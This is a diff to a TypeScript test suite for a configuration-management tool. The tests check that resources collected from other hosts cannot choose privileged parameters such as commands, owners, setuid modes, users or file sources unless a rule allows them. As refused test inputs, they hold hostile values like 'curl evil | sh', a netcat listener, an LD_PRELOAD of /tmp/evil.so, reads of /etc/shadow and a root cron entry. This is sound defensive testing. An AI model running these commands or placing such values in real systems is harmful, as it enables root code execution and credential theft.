@@ -52,7 +52,7 @@ collect:
       { host: 'c', resource: { kind: 'exec', name: 'x', params: { cmd: ['true'] }, meta: undefined, to: '*' } },
     ];
     const rules = build(graph).collect;
-    const onB = collectResources('b', rules, entries);
+    const onB = collectResources('b', rules, entries, registry);
     assert.deepEqual(
       onB.map((r) => [r.origin, r.name, r.params['path']]),
       [
@@ -61,7 +61,7 @@ collect:
         ['c', '/tmp/c/shared-1', '/tmp/in/c-shared-1'],
       ],
     );
-    const onC = collectResources('c', rules, entries);
+    const onC = collectResources('c', rules, entries, registry);
     assert.deepEqual(onC.map((r) => r.name), ['/tmp/a/shared-1', '/tmp/c/shared-1'], 'shared-2 is only for b; exec is not collected');
     // Collected resources build like local ones.
     const raw = parseGraphText(GRAPH_FILE, graph);
@@ -71,11 +71,215 @@ collect:
   });
 
   test('from limits the exporters collected from', () => {
-    const g = build(`resources: []\ncollect:\n  - { kind: file, from: [c] }\n`);
+    const g = build(`resources: []\ncollect:\n  - { kind: file, from: [c], take: [path] }\n`);
     const entries: ExportEntry[] = [
       { host: 'a', resource: { kind: 'file', name: '/a', params: {}, meta: undefined, to: '*' } },
       { host: 'c', resource: { kind: 'file', name: '/c', params: {}, meta: undefined, to: '*' } },
     ];
-    assert.deepEqual(collectResources('b', g.collect, entries).map((r) => r.name), ['/c']);
+    assert.deepEqual(collectResources('b', g.collect, entries, registry).map((r) => r.name), ['/c']);
+  });
+});
+
+/** One export from `host` (default b) of `kind[name]` with `params`, to every host. */
+function exp(kind: string, name: string, params: Record<string, unknown>, meta?: unknown, host = 'b'): ExportEntry {
+  return { host, resource: { kind, name, params, meta, to: '*' } };
+}
+
+/** What collecting `entry` on host a under the rules of `yaml` (a graph's collect section) gives. */
+function collectOne(yaml: string, entry: ExportEntry): { params: Record<string, unknown>; refused: string | undefined; meta: unknown } {
+  const rules = build(`resources: []\ncollect:\n${yaml}`).collect;
+  const out = collectResources('a', rules, [entry], registry);
+  assert.equal(out.length, 1, 'the export matches the rule');
+  const r = out[0];
+  assert.ok(r !== undefined);
+  return { params: r.params, refused: r.refused, meta: r.meta };
+}
+
+const FILE_RULE = '  - { kind: file, set: { path: "/srv/in/{host}-{basename}" } }\n';
+
+describe('collect is the collector’s decision: power parameters are taken only when the rule names them', () => {
+  test('file: content and a plain mode are taken by default; the rule’s set wins over the exporter', () => {
+    const r = collectOne(FILE_RULE, exp('file', '/etc/shadow', { path: '/etc/shadow', content: 'x\n', mode: '0640' }));
+    assert.equal(r.refused, undefined);
+    assert.deepEqual(r.params, { content: 'x\n', mode: '0640', path: '/srv/in/b-shadow' });
+  });
+
+  const refusedFile: [string, Record<string, unknown>, RegExp][] = [
+    ['source (a root-only file copied out)', { source: '/etc/shadow' }, /does not take 'source' \(which local file root copies\)/],
+    ['owner', { content: 'x', owner: 0 }, /does not take 'owner'/],
+    ['owner by name', { content: 'x', owner: 'root' }, /does not take 'owner'/],
+    ['group', { content: 'x', group: 'shadow' }, /does not take 'group'/],
+    ['a symlink target', { type: 'symlink', target: '/etc/shadow' }, /does not take 'target' \(where a symlink points\)/],
+    ['mode 4755 (setuid)', { content: 'x', mode: '4755' }, /does not take 'mode' "4755" \(setuid, setgid and sticky bits\)/],
+    ['mode 2755 (setgid)', { content: 'x', mode: '2755' }, /'mode' "2755"/],
+    ['mode 1777 (sticky), as a number', { content: 'x', mode: 0o1777 }, /'mode' 1023/],
+  ];
+  for (const [what, params, reason] of refusedFile) {
+    test(`file: an export choosing ${what} is refused whole when the rule does not take it`, () => {
+      const r = collectOne(FILE_RULE, exp('file', '/tmp/x', params));
+      assert.match(r.refused ?? '(collected)', reason);
+    });
+  }
+
+  test('file: each power parameter is taken when the rule names it, setuid bits included', () => {
+    const rule = '  - { kind: file, from: [b], take: [source, owner, group, mode], set: { path: "/srv/in/{basename}" } }\n';
+    const r = collectOne(rule, exp('file', '/tmp/x', { source: '/srv/build/tool', owner: 'app', group: 0, mode: '4755' }));
+    assert.equal(r.refused, undefined);
+    assert.deepEqual(r.params, { source: '/srv/build/tool', owner: 'app', group: 0, mode: '4755', path: '/srv/in/x' });
+    const link = collectOne('  - { kind: file, take: [type, target, path] }\n', exp('file', '/srv/l', { type: 'symlink', target: '/srv/t' }));
+    assert.deepEqual(link.params, { type: 'symlink', target: '/srv/t' }, 'path taken: it defaults to the exporter’s name');
+  });
+
+  test('with an explicit take, every other parameter is the collector’s: non-power ones are dropped', () => {
+    const r = collectOne('  - { kind: file, take: [content], set: { path: "/srv/in/{basename}" } }\n', exp('file', '/tmp/x', { content: 'c', mode: '0600', force: true }));
+    assert.deepEqual(r.params, { content: 'c', path: '/srv/in/x' });
+    // Parameters the kind does not know are never taken (nor do they break the resource).
+    const u = collectOne(FILE_RULE, exp('file', '/tmp/y', { content: 'c', bogus: 1 }));
+    assert.deepEqual(u.params, { content: 'c', path: '/srv/in/b-y' });
+  });
+
+  test('file: a rule that neither sets nor takes path is refused at collection too (the exporter would choose it by the name)', () => {
+    const rules = [{ kind: 'file', from: '*' as const, set: {}, loc: { file: 'g', line: 1, col: 1 } }];
+    const [r] = collectResources('a', rules, [exp('file', '/etc/cron.d/evil', { content: '* * * * * root sh\n' })], registry);
+    assert.match(r?.refused ?? '(collected)', /neither sets nor takes 'path'.*where root writes/);
+  });
+
+  test('exec: no command from an exporter unless taken; the rule may set the command and take harmless parameters', () => {
+    const byDefault = collectOne('  - { kind: exec }\n', exp('exec', 'x', { cmd: ['sh', '-c', 'id > /tmp/pwned'] }));
+    assert.match(byDefault.refused ?? '(collected)', /does not take 'cmd' \(the command root runs\)/);
+    const set = '  - { kind: exec, set: { cmd: [/usr/local/bin/deploy, "{host}"] } }\n';
+    for (const [param, value] of [
+      ['onlyif', 'curl evil | sh'],
+      ['unless', ['false']],
+      ['watch', { cmd: ['nc', '-l', '4444'] }],
+      ['shell', '/tmp/evil-shell'],
+      ['cwd', '/tmp'],
+      ['env', { LD_PRELOAD: '/tmp/evil.so' }],
+    ] as const) {
+      const r = collectOne(set, exp('exec', 'x', { cmd: ['x'], [param]: value }));
+      assert.ok(r.refused === undefined || !r.refused.includes("'cmd'"), 'cmd is the rule’s (set)');
+      assert.match(r.refused ?? '(collected)', new RegExp(`does not take '${param}'`), param);
+    }
+    const ok = collectOne(set, exp('exec', 'x', { cmd: ['x'], timeout: 5, refreshOnly: true }));
+    assert.deepEqual(ok.params, { timeout: 5, refreshOnly: true, cmd: ['/usr/local/bin/deploy', 'b'] });
+    const taken = collectOne('  - { kind: exec, from: [b], take: [cmd] }\n', exp('exec', 'x', { cmd: ['make'] }));
+    assert.deepEqual(taken.params, { cmd: ['make'] });
+  });
+
+  test('svc: command, user, group, env, cwd, exec health checks, reload commands and log paths are power', () => {
+    const rule = '  - { kind: svc, set: { cmd: [/usr/sbin/worker], user: worker } }\n';
+    const refused: [string, unknown][] = [
+      ['group', 'root'],
+      ['env', { LD_PRELOAD: '/tmp/x.so' }],
+      ['cwd', '/root'],
+      ['health', { exec: ['sh', '-c', 'evil'] }],
+      ['reload', { cmd: ['sh', '-c', 'evil'] }],
+      ['log', { stdout: '/etc/cron.d/x' }],
+    ];
+    for (const [param, value] of refused) {
+      const r = collectOne(rule, exp('svc', 'w', { [param]: value }));
+      assert.match(r.refused ?? '(collected)', new RegExp(`does not take '${param}'`), param);
+    }
+    // The rule's user is the collector's: the exporter cannot run the process as root instead.
+    const harmless = collectOne(rule, exp('svc', 'w', { user: 'root', health: { http: 'http://127.0.0.1:1/' }, reload: { signal: 'HUP' }, log: { keep: 2 } }));
+    assert.equal(harmless.refused, undefined);
+    assert.deepEqual(harmless.params, {
+      health: { http: 'http://127.0.0.1:1/' },
+      reload: { signal: 'HUP' },
+      log: { keep: 2 },
+      cmd: ['/usr/sbin/worker'],
+      user: 'worker',
+    });
+    assert.match(collectOne('  - { kind: svc }\n', exp('svc', 'w', { cmd: ['/bin/sh'] })).refused ?? '', /does not take 'cmd'/);
+  });
+
+  test('pkg: which package, and whether it is removed, are the collector’s unless taken', () => {
+    const rule = '  - { kind: pkg, from: [b], take: [name] }\n';
+    assert.equal(collectOne(rule, exp('pkg', 'nginx', {})).refused, undefined);
+    assert.match(collectOne(rule, exp('pkg', 'openssh-server', { state: 'absent' })).refused ?? '', /does not take 'state'/);
+    assert.match(collectOne('  - { kind: pkg, from: [b], take: [name] }\n', exp('pkg', 'x', { name: 'evil' })).refused ?? '(taken)', /^\(taken\)$/);
+    const set = collectOne('  - { kind: pkg, set: { name: "nginx" } }\n', exp('pkg', 'anything', { name: 'evil' }));
+    assert.deepEqual(set.params, { name: 'nginx' });
+  });
+
+  test('user and group: uid, groups, shell and home are never an exporter’s to choose by default', () => {
+    const rule = '  - { kind: user, from: [b], take: [name] }\n';
+    for (const [param, value] of [
+      ['uid', 0],
+      ['gid', 0],
+      ['group', 'root'],
+      ['groups', ['sudo']],
+      ['shell', '/bin/bash'],
+      ['home', '/root'],
+      ['state', 'absent'],
+    ] as const) {
+      assert.match(collectOne(rule, exp('user', 'deploy', { [param]: value })).refused ?? '(collected)', new RegExp(`does not take '${param}'`), param);
+    }
+    assert.deepEqual(collectOne(rule, exp('user', 'deploy', { comment: 'Deploy' })).params, {}, 'not taken: dropped');
+    assert.deepEqual(collectOne('  - { kind: user, from: [b], take: [name, comment] }\n', exp('user', 'deploy', { comment: 'Deploy' })).params, { comment: 'Deploy' });
+    const g = '  - { kind: group, from: [b], take: [name] }\n';
+    assert.match(collectOne(g, exp('group', 'sudo', { members: ['evil'] })).refused ?? '', /does not take 'members'/);
+    assert.match(collectOne(g, exp('group', 'x', { gid: 0 })).refused ?? '', /does not take 'gid'/);
+  });
+
+  test('template: the template file read, owner and setuid bits are power; inline text and vars are taken', () => {
+    const rule = '  - { kind: template, set: { path: "/srv/in/{basename}" } }\n';
+    assert.match(collectOne(rule, exp('template', '/t', { source: '/etc/shadow' })).refused ?? '', /does not take 'source'/);
+    assert.match(collectOne(rule, exp('template', '/t', { template: 'x', mode: '4755' })).refused ?? '', /'mode' "4755"/);
+    assert.deepEqual(collectOne(rule, exp('template', '/t', { template: 'x {{ vars.a }}', vars: { a: 1 } })).params, {
+      template: 'x {{ vars.a }}',
+      vars: { a: 1 },
+      path: '/srv/in/t',
+    });
+  });
+
+  test('the exporter’s metaparams are not taken, except noop: true (which only makes a resource do less)', () => {
+    const hostile = collectOne(FILE_RULE, exp('file', '/x', { content: 'c' }, { retry: -1, delay: 0, sema: ['apt:1'], poll: 0.01 }));
+    assert.equal(hostile.meta, undefined);
+    const noop = collectOne(FILE_RULE, exp('file', '/x', { content: 'c' }, { noop: true, retry: 3 }));
+    assert.deepEqual(noop.meta, { noop: true });
+  });
+});
+
+describe('collect rules are validated: unknown parameters, missing identity, power takes', () => {
+  test('taking a power parameter is a warning with the rule’s line, naming who can then choose what', () => {
+    const g = build(`resources: []
+collect:
+  - { kind: file, set: { path: "/srv/in/{host}-{basename}" } }
+  - { kind: file, from: [b, c], take: [content, source, mode], set: { path: "/srv/b/{basename}" } }
+  - { kind: exec, take: [cmd] }
+`);
+    const text = g.warnings.map((w) => `${w.where?.line ?? 0}: ${w.code}: ${w.message} (${w.hint ?? ''})`);
+    assert.deepEqual(text, [
+      "4: W_POWER_TAKE: collect[1].take: 'source' lets any of b, c exporting file choose which local file root copies on this host (take it only from hosts you trust with it, or set it instead)",
+      "4: W_POWER_TAKE: collect[1].take: 'mode' lets any of b, c exporting file choose setuid, setgid and sticky bits on this host (take it only from hosts you trust with it, or set it instead)",
+      "5: W_POWER_TAKE: collect[2].take: 'cmd' lets any host exporting exec choose the command root runs on this host (restrict `from` to hosts you trust, or set it instead of taking it)",
+    ]);
+  });
+
+  test('an unknown parameter in take or set is an error with a suggestion; so is an unknown kind', () => {
+    const errors = buildErrors(`resources: []
+collect:
+  - { kind: file, take: [contnet], set: { path: /srv/x, onwer: root } }
+  - { kind: fiel }
+  - { kind: file, take: source }
+`);
+    const text = errors.map((e) => `${e.where?.line ?? 0}: ${e.message} (${e.hint ?? ''})`);
+    assert.ok(text.includes('3: collect[0].take: file has no parameter "contnet" (did you mean "content"?)'), text.join('\n'));
+    assert.ok(text.includes('3: collect[0].set: file has no parameter "onwer" (did you mean "owner"?)'), text.join('\n'));
+    assert.ok(text.some((t) => t.startsWith('4: collect[1]: unknown resource kind "fiel" (did you mean "file"?')), text.join('\n'));
+    assert.ok(text.some((t) => t.startsWith('5: "take" must be a list of parameter names')), text.join('\n'));
+  });
+
+  test('a rule that neither sets nor takes a parameter derived from the name (file path, package name) is an error', () => {
+    const errors = buildErrors(`resources: []
+collect:
+  - { kind: file }
+  - { kind: pkg, take: [state] }
+`);
+    const text = errors.map((e) => `${e.where?.line ?? 0}: ${e.message} (${e.hint ?? ''})`);
+    assert.equal(text.length, 2, text.join('\n'));
+    assert.match(text[0] ?? '', /^3: collect\[0\]: a file rule must set or take 'path' \('path' defaults to the resource's name, which the exporter chooses; set it per exporter, e\.g\. set: \{ path: "\/srv\/collected\/\{host\}-\{basename\}" \}/);
+    assert.match(text[1] ?? '', /^4: collect\[1\]: a pkg rule must set or take 'name'/);
   });
 });
